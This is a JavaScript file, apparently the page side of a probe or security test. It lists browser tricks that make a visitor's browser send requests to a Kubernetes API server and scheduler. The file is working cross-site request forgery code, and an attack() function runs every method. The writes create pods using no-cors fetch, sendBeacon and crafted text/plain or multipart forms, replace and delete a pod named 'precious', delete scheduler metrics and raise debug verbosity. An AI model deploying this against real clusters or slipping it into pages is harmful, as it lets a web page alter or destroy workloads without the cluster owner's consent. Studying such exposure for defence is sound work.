// What a web page can have a browser send. Each way returns what the page got to see of the answer, "" for nothing.

const PODS = "/api/v1/namespaces/default/pods";

function pod(name) {
  const spec = { containers: [{ name: "c", image: "i" }] };
  return { apiVersion: "v1", kind: "Pod", metadata: { name }, spec };
}

const bytes = (object) => new TextEncoder().encode(JSON.stringify(object));

async function asked(url, options) {
  const answer = await fetch(url, options);
  return answer.type === "opaque" ? "" : `${answer.status} ${await answer.text()}`;
}

// Load something into the page, wait for it, and look at what came.
function embedded(tag, properties, look = () => "") {
  return new Promise((resolve) => {
    const element = Object.assign(document.createElement(tag), properties);
    const done = () => resolve(look(element));
    element.onload = done;
    element.onerror = done;
    document.body.append(element);
  });
}

const shown = (frame) => frame.contentDocument?.body?.innerText ?? "";
const styled = (link) => {
  try {
    return [...link.sheet.cssRules].map((rule) => rule.cssText).join();
  } catch {
    return "";
  }
};
const painted = (image) => (image.naturalWidth ? "painted" : "");

// Send a form; its answer goes to a frame.
function submitted(action, enctype, name, value) {
  return new Promise((resolve) => {
    const frame = Object.assign(document.createElement("iframe"), { name: `frame-${enctype}` });
    document.body.append(frame);
    frame.onload = () => resolve(shown(frame));
    const form = Object.assign(document.createElement("form"), { action, enctype, method: "POST", target: frame.name });
    form.append(Object.assign(document.createElement("input"), { name, value }));
    document.body.append(form);
    form.submit();
  });
}

function socket(url) {
  return new Promise((resolve) => {
    const line = new WebSocket(url.replace("http", "ws"));
    line.onmessage = (event) => resolve(String(event.data));
    line.onclose = () => resolve("");
  });
}

function events(url) {
  return new Promise((resolve) => {
    const source = new EventSource(url);
    source.onmessage = (event) => resolve(String(event.data));
    source.onerror = () => {
      source.close();
      resolve("");
    };
  });
}

// Ways to send a body, of which the first do not have the browser ask before.
const WRITES = {
  bare: (url, name) => asked(url, { method: "POST", mode: "no-cors", body: bytes(pod(name)) }),
  text: (url, name) => asked(url, { method: "POST", mode: "no-cors", body: JSON.stringify(pod(name)) }),
  pairs: (url, name) => asked(url, { method: "POST", mode: "no-cors", body: new URLSearchParams({ name }) }),
  beacon: async (url, name) => (navigator.sendBeacon(url, bytes(pod(name))), ""),
  request: (url, name) => asked(url, { method: "POST", body: bytes(pod(name)) }),
  form: (url, name) => {
    const [before, after] = JSON.stringify({ ...pod(name), x: "=" }).split("=");
    return submitted(url, "text/plain", before, after);
  },
  upload: (url, name) => submitted(url, "multipart/form-data", "pod", JSON.stringify(pod(name))),
  json: (url, name) =>
    asked(url, { method: "POST", headers: { "Content-Type": "application/json" }, body: bytes(pod(name)) }),
  replace: (url, name) =>
    asked(`${url}/precious`, { method: "PUT", headers: { "Content-Type": "application/json" }, body: bytes(pod(name)) }),
  remove: (url) => asked(`${url}/precious`, { method: "DELETE" }),
};

const READS = {
  fetched: (url) => asked(url),
  opaque: (url) => asked(url, { mode: "no-cors" }),
  image: (url) => embedded("img", { src: url }, painted),
  script: (url) => embedded("script", { src: url }),
  style: (url) => embedded("link", { rel: "stylesheet", href: url }, styled),
  frame: (url) => embedded("iframe", { src: url }, shown),
  socket,
  events,
};

// Changes that the scheduler's pages know.
const SETTINGS = {
  reset: (url) => asked(`${url}/metrics`, { method: "DELETE" }),
  verbosity: (url) => asked(`${url}/debug/flags/v`, { method: "PUT", body: "9" }),
  post: (url) => asked(`${url}/metrics`, { method: "POST", mode: "no-cors", body: bytes({}) }),
};

async function tried(prefix, ways, ...given) {
  const seen = {};
  for (const [name, way] of Object.entries(ways)) {
    seen[`${prefix} ${name}`] = await way(...given, name).catch(() => "");
  }
  return seen;
}

async function attack(api, scheduler) {
  return {
    ...(await tried("read", READS, `${api}${PODS}`)),
    ...(await tried("write", WRITES, `${api}${PODS}`)),
    ...(await tried("look", READS, `${scheduler}/metrics`)),
    ...(await tried("set", SETTINGS, scheduler)),
  };
}
